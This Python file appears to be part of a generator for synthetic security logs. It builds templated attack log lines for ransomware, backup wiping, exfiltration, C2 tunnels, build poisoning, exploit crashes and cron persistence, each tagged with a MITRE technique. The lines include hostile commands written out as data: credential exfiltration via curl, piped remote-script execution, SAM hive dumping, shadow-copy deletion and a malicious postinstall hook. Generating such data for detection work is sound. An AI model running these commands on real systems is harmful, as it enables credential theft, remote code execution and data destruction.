"""Attacks as PCs, phones, build machines, backup tools and programs in other languages log them."""

from generator.families.applications.computing import build, ci, crashes, cron_mail, kernel_like, packages, rack_nodes, tables
from generator.families.applications.desktop import agents, antivirus, backup, browser, electron, mac, phone, sync, vpn
from generator.families.applications.languages import products as languages
from generator.families.applications.product import story
from generator.scene import attack

story("applications/sync-client-spreads-encryption", [sync, backup, electron], r"""
*I Uploaded {file0}.{ext1} ({many} kB)

*I renamed on {pc1}: {file0} -> {file0}.{ext1}
I Uploaded {note1}

W {many} files changed in {few} min by {pc1}, all now end in .{ext1}; sync paused

W ransomware pattern: {note1} appeared in {n} folders of {user1}

E restore needed? {many} deletions and {many} new *.{ext1} from device {hex1}
""", attack("Ransomware Activity", "T1486", severity="CRITICAL"))

story("applications/backups-wiped", [backup], r"""
W/BA all restore points of {n} jobs deleted by {user1} from {peer1}

W/BA repository prune --keep-last 0 by {word1} removed {many} snapshots from {peer1}

E/BA immutability switched off and {n} chains deleted by {user1}, console opened from {peer1}

W/BA jobs disabled one after another by {user1}, catalog database dropped, retention set to 0

E/BA backup console password reset by {word1}, {many} snapshots forgotten, vssadmin delete shadows run on {n} hosts

W/BA Alle Wiederherstellungspunkte gelöscht von {user1} ({peer1}), Aufträge deaktiviert
""", attack("Ransomware Activity", "T1490", severity="CRITICAL"))

story("applications/private-cloud-upload", [sync, backup, agents], r"""
W {user1} linked personal account {word1}@<gmail.com|mail.ru|proton.me> and uploads folder Customers ({n} GB)

I rclone: Transferred {n} GiB to mega:{word1}, {many} files, started by {user1} at night

W new device {hex1} in {peer1} downloads all {many} files of {user1} within {few} min

W share link 'anyone' created for {many} files by {user1}, downloaded {n} times from {peer1}

E data loss rule: upload of ntds/finance archive {word1}.7z to {strange1} by {user1}

I restic-like copy to unknown repository s3:{strange1}/{word1} with {n} GB by {word1}
""", attack("Potential Data Exfiltration", "T1567.002", "T1048", severity="CRITICAL"))

story("applications/malware-reported-by-scanner", [antivirus, agents, mac, phone, backup], r"""
E {path}: <Trojan.GenericKD|Win.Ransomware.Lockbit|Backdoor.Agent|Unix.Malware.Kaiji|Worm.Autorun|Exploit.CVE-2017-11882> FOUND

E threat detected: <Trojan:Win32/Emotet|HackTool:Win32/Mimikatz|Ransom:Win32/Akira|Behavior:Win32/CobaltStrike> in {wpath}, action: <failed|none|blocked, process still running>

W stream: Win.Trojan.Agent-{big} FOUND from {lan1}

E Fund: {wpath} enthält Trojaner Agent.{n}, Quarantäne fehlgeschlagen

E virus trouvé : {wpath}, cheval de Troie {word1}, suppression impossible

E 检测到木马: {wpath}, 清除失败

E Обнаружен вирус Trojan.{word1}.{n} в {wpath}, лечение невозможно

W quarantined {file} ({word1}.Stealer), {few} further machines have the same hash {sha}

I malicious=true score={pct} file={wpath} verdict=stealer action=alert_only

W kill of {word1}.exe failed: access denied, detection Rootkit.{word1}
""", attack("Malware Detected", "T1204.002", "T1059"))

story("applications/protection-switched-off", [antivirus, agents, mac, kernel_like], r"""
W Real-time protection turned off by script run from {wpath}, not by console

W Exclusion C:\ added by {word1}.exe

E service stopped by unsigned driver {word1}.sys (kill of protected process)

W definitions removed with -RemoveDefinitions -All by {user1}

W tamper protection disabled remotely from {peer1}

E agent uninstalled silently on {n} PCs within {few} min by {user1}

W module {word1} taints kernel: hides process {pid} and port {port}
""", attack("Defense Evasion", "T1562.001", "T1014"))

story("applications/management-agent-abused", [agents], r"""
W/AD Script '{word1}.ps1' sent to all {n} PCs by {user1} from {peer1}: powershell -nop -w hidden -enc <SQBFAFgAKABOAGUAdwA=|JABjAD0ATgBlAHcALQA=>

W/AD unattended remote session to {pc1} by unknown technician from {peer1} at night, {n} files taken

W/AD task '{word1}': {revshell}

W/AD package {word1}.msi from http://{peer1}/ pushed to {n} clients, signature missing

W/AD second remote tool <AnyDesk|ScreenConnect|MeshAgent> installed silently by script of {user1}, {peer1}

W/AD command on {pc1}: reg save HKLM\SAM C:\temp\{word1}.hiv
""", attack("Command and Control", "T1219", "T1072", severity="CRITICAL"))

story("applications/build-poisoned", [ci, build, packages], r"""
W step 'test' changed in pull request of new user: {revshell}

E postinstall of {word1}@{version}: node -e "require('child_process').exec('{dropper}')"

W job prints environment to https://{strange1}/?d=$(env|base64 -w0)

W $ curl -s --data-binary @$HOME/.aws/credentials http://{peer1}/{word1}

W package {micro}-{word1} (typo of {micro}) runs setup.py: exec(base64.b64decode('aW1wb3J0IG9z<Cg==|O29z|LHN5cw==>'))

E artefact {file} hash differs from build, uploaded again by {word1} from {peer1}

W secrets of {n} repositories read by runner token from {peer1}

I + ./{word1} -o stratum+tcp://{peer1}:3333 -u {hex} --tls
""", attack("Suspicious Script", "T1195.002", "T1059.004", severity="CRITICAL"))

story("applications/browser-lured", [browser, electron, phone], r"""
W Download {word1}.js from https://{strange1}/<update|invoice|doc>.php started by {user1}, executed by wscript.exe

W page https://{strange1}/captcha copied to clipboard: mshta https://{strange1}/{word1}.hta

E extension '{word1}' reads all pages and posts forms to https://{strange1}/c

W password of company account typed on https://{strange1}/<owa|login>/index.html

W fake update page https://{strange1}/chrome started {word1}.exe

W QR link https://{strange1}/mfa opened, session cookie of {user1} seen from {peer1}
""", attack("Phishing or Malicious Mail", "T1566.002", "T1204.001"))

story("applications/tunnel-and-beacon-client", [vpn, browser, mac, phone, cron_mail], r"""
*I {word1}: GET https://{strange1}/<submit.php?id={big}|jquery-3.3.1.min.js|ga.js|updates.rss> every 60 s, process without window

W tunnel to {peer1}:{port} started from {wpath} by {user1}: ngrok tcp 3389

W {word1} keeps websocket to wss://{strange1}/ws, started from launch agent com.{word1}.plist

W ssh -N -R {port}:127.0.0.1:3389 {word1}@{peer1} running as scheduled task

I * * * * * root curl -fsSL http://{peer1}/{word1}.sh | bash

W chisel client {peer1}:8080 R:socks started by {user1}
""", attack("Command and Control", "T1572", "T1071.001"))

story("applications/crash-by-exploit", [crashes, kernel_like, rack_nodes, tables], r"""
E request {uuid} crashed parser⏎java.lang.ClassNotFoundException: Exploit{n}⏎	at javax.naming.spi.NamingManager.getObjectFactoryFromReference(NamingManager.java:{n})⏎	at com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:{n})

E ProcessBuilder.start failed⏎java.io.IOException: Cannot run program "{revshell}"⏎	at org.apache.commons.collections.functors.InvokerTransformer.transform(InvokerTransformer.java:{n})

E OgnlException: source [{ssti}] from {peer1}

E ViewStateException: validation of viewstate MAC failed, then w3wp.exe started cmd.exe /c {dropper}

E pickle.UnpicklingError while reading {gadget} from {peer1}

W {micro}[{pid}]: stack smashing after {many} bytes of 0x90 from {peer1}, child /bin/sh started

E TemplateSyntaxError: {ssti} (form field from {peer1})

E PHP Fatal error:  Uncaught Error: Call to undefined function {word1}() in /var/www/html/uploads/{word1}.php(1) : eval()'d code on line 1
""", attack("Remote Code Execution Exploit", "T1190", "T1203", severity="CRITICAL"))

story("applications/cron-planted", [cron_mail, kernel_like, packages], r"""
I/JO (root) CMD (wget -q -O - http://{peer1}/{word1}.sh | sh)

W/JO /etc/cron.d/{word1} created by www-data: * * * * * {dropper}

E/JO sh: {revshell}: connection refused

I/JO Subject: Cron <www-data@{host}> curl -s {peer1}/{word1} | bash

W/JO ld.so.preload now lists /usr/local/lib/lib{word1}.so, unknown file

W/JO authorized_keys of root got a new key '{word1}@{word}' by process of www-data
""", attack("Persistence", "T1053.003", "T1098.004", severity="CRITICAL"))

story("applications/ransom-in-other-languages", languages, r"""
F Alle Dateien im Ordner {micro} verschlüsselt, Endung .{ext1}, Nachricht {note1} gefunden

W Tous les fichiers du partage renommés en .{ext1}, note {note1}

W Todos los registros borrados por {user1} desde {peer1}, aparece {note1}

E Tutti i documenti cifrati, estensione .{ext1}, richiesta di riscatto {note1}

W Wszystkie kopie zapasowe usunięte przez {user1} z adresu {peer1}

W Все файлы зашифрованы, расширение .{ext1}, записка {note1}

W すべてのファイルが暗号化されました ({ext1})、{note1} が作成されました

W Tüm dosyalar şifrelendi (.{ext1}), fidye notu {note1}

W تم تشفير جميع الملفات بالامتداد {ext1} ووجدت رسالة {note1}

W Alla säkerhetskopior raderade av {word1} från {peer1}, {note1} i varje mapp
""", attack("Ransomware Activity", "T1486", "T1485", severity="CRITICAL"))

story("applications/spyware-on-phone", [phone, mac], r"""
W com.{word1}.service uses accessibility to press 'allow', reads messages, sends to {peer1}

W app com.{word1} drawn over bank app, keystrokes kept in {path}

E profile '{word1}' installs root certificate and proxy {peer1}:8080 without user

W osascript asked for login password in own window, zip of keychain sent to {strange1}
""", attack("Credential Theft", "T1056.001", "T1555.001"))

story("applications/audit-cleared-in-other-languages", languages, r"""
W Protokol auditu smazán uživatelem {word1} z {peer1}

W Журнал аудита очищен пользователем {word1} с {peer1}

W Audit-Protokoll gelöscht durch {word1} von {peer1}

W 审计日志已被用户 {word1} 从 {peer1} 清除

W 監査ログが {peer1} の {word1} により消去されました

W Registro de auditoría borrado por {word1} desde {peer1}

W Dziennik zdarzeń wyczyszczony przez {word1} z {peer1}

W Günlükler {word1} tarafından silindi ({peer1})
""", attack("Log Clearing", "T1070"))

story("applications/export-in-other-languages", languages, r"""
W Données de {many} clients envoyées vers {strange1} par {user1}

W Descargados {many} expedientes por {user1} desde {peer1} de madrugada

W {many} Kundendatensätze nachts an {strange1} übertragen von {user1}

W Выгрузка {many} карточек клиентов на {strange1} пользователем {user1} ночью

W {many} 件の顧客データが深夜に {strange1} へ送信されました ({user1})

W 用户 {user1} 深夜向 {strange1} 上传 {many} 条客户数据

W Esportati {many} clienti verso {strange1} da {user1} di notte
""", attack("Potential Data Exfiltration", "T1567", "T1041", severity="CRITICAL"))
